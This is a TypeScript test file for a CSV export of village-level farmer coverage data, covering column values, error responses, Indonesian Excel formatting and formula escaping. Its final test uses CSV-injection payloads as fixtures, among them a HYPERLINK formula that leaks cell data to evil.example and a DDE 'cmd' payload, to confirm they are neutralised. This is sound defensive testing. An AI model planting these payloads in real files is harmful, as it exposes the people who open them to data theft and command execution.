import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Database } from "../server/db/database.ts";
import { CSV_FIELDS } from "../server/export/coverage-csv.ts";
import { ADMIN, operation, run } from "./support/graphql.ts";
import type { KamalFarmersQuery, SavePlanSitesMutation, SavePlanSitesMutationVariables } from "./generated/graphql.ts";
import { independentCoverage, rankWithinParent } from "./support/independent-coverage.ts";
import { openSeededApp, type RunningApp, AS_ADMIN } from "./support/http.ts";

const KAMAL_FARMERS = operation<KamalFarmersQuery>(/* GraphQL */ `
  query KamalFarmers {
    coverage(level: VILLAGE, sector: FARMER, parentCode: "35.26.01", orderBy: COVERAGE_RATE, direction: ASC, first: 500) {
      edges {
        node {
          code
          name
          coverageRate
          areaKm2
        }
      }
    }
  }
`);
const SAVE = operation<SavePlanSitesMutation, SavePlanSitesMutationVariables>(/* GraphQL */ `
  mutation SavePlanSites($name: String!, $input: PlanInput!) {
    savePlan(name: $name, input: $input) {
      id
      plan {
        sites {
          name
          lat
          lon
        }
      }
    }
  }
`);

describe("GET /export/coverage.csv", () => {
  let db: Database;
  let app: RunningApp;
  let close: () => Promise<void>;
  // Every figure against independent arithmetic, small counts too: suppression off here (test/disclosure.test.ts tests it).
  beforeAll(async () => ({ db, app, close } = await openSeededApp({ MIN_CELL_SIZE: "1" })));
  afterAll(() => close?.());

  it("gives every matching village (all pages) with all its columns as computed independently, the field names as header, in UTF-8", async () => {
    const res = await fetch(
      `${app.url}/export/coverage.csv?level=VILLAGE&sector=FARMER&maxCoverageRate=0.5&orderBy=UNCOVERED&direction=DESC`,
    );
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toContain("coverage.csv");
    const text = new TextDecoder("utf-8", { fatal: true }).decode(await res.arrayBuffer());
    const [header, ...rows] = parse(text) as string[][];
    expect(header).toEqual([...CSV_FIELDS]);
    expect(rows.length).toBeGreaterThan(50);
    // Every column against the same villages computed here from the raw tables: farmers at most
    // half covered, most uncovered first (then by code), ranked by uncovered within their district.
    const all = await independentCoverage(db, { level: "VILLAGE", sector: "FARMER", month: "2025-09" });
    const rank = rankWithinParent(all, (r) => r.uncovered, "DESC");
    const expected = all
      .filter((r) => r.coverageRate != null && r.coverageRate <= 0.5)
      .sort((a, b) => b.uncovered - a.uncovered || a.code.localeCompare(b.code));
    const asCsv = (v: unknown) => (v == null ? "" : String(v));
    const table = rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]])));
    expect(table.map((r) => r.code)).toEqual(expected.map((r) => r.code));
    table.forEach((row, i) => {
      const want = { ...expected[i]!, rank: rank.get(expected[i]!), suppressed: false } as Record<string, unknown>;
      for (const field of CSV_FIELDS) {
        // Rates to a hundredth of a percentage point, areas and densities to two decimals.
        const digits = ({ coverageRate: 4, areaKm2: 2, uncoveredPerKm2: 2 } as Record<string, number>)[field];
        const value = want[field];
        const shown = digits != null && typeof value === "number" ? Math.round(value * 10 ** digits) / 10 ** digits : value;
        expect(row[field], `${row.code} ${field}`).toBe(asCsv(shown));
      }
    });
  });

  it("answers a bad argument with 400 naming it, as JSON", async () => {
    const res = await fetch(`${app.url}/export/coverage.csv?level=VILLAGE&period=1999-01`);
    expect(res.status).toBe(400);
    const body = (await res.json()) as { error: string; code: string };
    expect(body.code).toBe("BAD_USER_INPUT");
    expect(body.error).toContain("period");
    const missing = await fetch(`${app.url}/export/coverage.csv`);
    expect(missing.status).toBe(400);
    expect(((await missing.json()) as { error: string }).error).toContain("level");
  });

  it("writes rates to a hundredth of a point, and with format=excel-id semicolons and decimal commas for Indonesian spreadsheets", async () => {
    const query = "level=VILLAGE&sector=FARMER&parentCode=35.26.01&orderBy=COVERAGE_RATE&direction=ASC";
    const { data } = await run(db, KAMAL_FARMERS);
    const nodes = data!.coverage.edges.map((e) => e.node) as {
      code: string;
      name: string;
      coverageRate: number | null;
      areaKm2: number;
    }[];
    expect(nodes.some((n) => n.coverageRate != null && String(n.coverageRate).length > 8)).toBe(true);
    const rounded = (v: number | null, digits: number) => (v == null ? "" : String(Math.round(v * 10 ** digits) / 10 ** digits));

    const standard = parse(await (await fetch(`${app.url}/export/coverage.csv?${query}`)).text()) as string[][];
    const col = (name: string) => standard[0]!.indexOf(name);
    expect(standard.slice(1).map((r) => r[col("coverageRate")])).toEqual(nodes.map((n) => rounded(n.coverageRate, 4)));

    const res = await fetch(`${app.url}/export/coverage.csv?${query}&format=excel-id`);
    expect(res.status).toBe(200);
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8").decode(bytes.slice(3));
    expect(text.split("\n")[0]).toBe(CSV_FIELDS.join(";"));
    const rows = parse(text, { delimiter: ";" }) as string[][];
    expect(rows.slice(1).map((r) => r[col("name")])).toEqual(nodes.map((n) => n.name));
    expect(rows.slice(1).map((r) => r[col("coverageRate")])).toEqual(nodes.map((n) => rounded(n.coverageRate, 4).replace(".", ",")));
    expect(rows.slice(1).map((r) => r[col("areaKm2")])).toEqual(nodes.map((n) => rounded(n.areaKm2, 2).replace(".", ",")));

    const bad = await fetch(`${app.url}/export/coverage.csv?${query}&format=xlsx`);
    expect(bad.status).toBe(400);
    expect(((await bad.json()) as { error: string }).error).toContain("format");
  });

  // What a hostile boundary or fertilizer-point file could name a place (OWASP's CSV injection cases).
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rReturn",
  ];
  /** Every cell a spreadsheet would take as a formula: starts with = + - @ tab or CR and is not a plain number. */
  const formulaCells = (rows: string[][]) => rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !Number.isFinite(Number(c)));

  it("escapes cells a spreadsheet would run as formulas, in the coverage and plan CSVs; numbers stay numbers", async () => {
    const villages = await db.sql.query<{ code: string }>(
      `SELECT code FROM region WHERE level = 'VILLAGE' ORDER BY code LIMIT ${FORMULAS.length}`,
    );
    for (const [i, { code }] of villages.entries()) await db.sql.query(`UPDATE region SET name = $1 WHERE code = $2`, [FORMULAS[i], code]);
    await db.sql.query(`UPDATE region SET name = $1 WHERE code = '35.26.01'`, [FORMULAS[0]]);
    const coverage = parse(await (await fetch(`${app.url}/export/coverage.csv?level=VILLAGE`)).text(), {
      relax_quotes: true,
    }) as string[][];
    const [header, ...rows] = coverage;
    const named = new Map(rows.map((r) => [r[header!.indexOf("code")], r]));
    for (const [i, { code }] of villages.entries()) {
      expect(named.get(code)![header!.indexOf("name")]).toBe(`'${FORMULAS[i]}`);
      expect(named.get(code)![header!.indexOf("parentName")]).toBe(`'${FORMULAS[0]}`);
    }
    expect(formulaCells(rows)).toEqual([]);

    const points = await db.sql.query<{ id: number }>(`SELECT id FROM fertilizer_point ORDER BY id`);
    for (const { id } of points)
      await db.sql.query(`UPDATE fertilizer_point SET name = $1 WHERE id = $2`, [FORMULAS[id % FORMULAS.length], id]);
    const saved = (await run(db, SAVE, { name: "=1+1", input: { sessions: 4, from: "2025-10-01", to: "2026-01-31" } }, ADMIN)).data!
      .savePlan;
    const [planHeader, ...planRows] = parse(await (await fetch(`${app.url}/export/plans/${saved.id}.csv`, AS_ADMIN)).text()) as string[][];
    const col = (name: string) => planRows.map((r) => r[planHeader!.indexOf(name)]);
    expect(new Set(col("siteName"))).toEqual(new Set(saved.plan.sites.map((s) => `'${s.name}`)));
    expect(saved.plan.sites.every((s) => FORMULAS.includes(s.name))).toBe(true);
    expect(formulaCells(planRows)).toEqual([]);
    // Latitudes south of the equator: negative numbers, written as numbers.
    expect(new Set(col("lat").map(Number))).toEqual(new Set(saved.plan.sites.map((s: { lat: number }) => s.lat)));
    expect(col("lat").every((v) => /^-\d/.test(v))).toBe(true);
  });
});
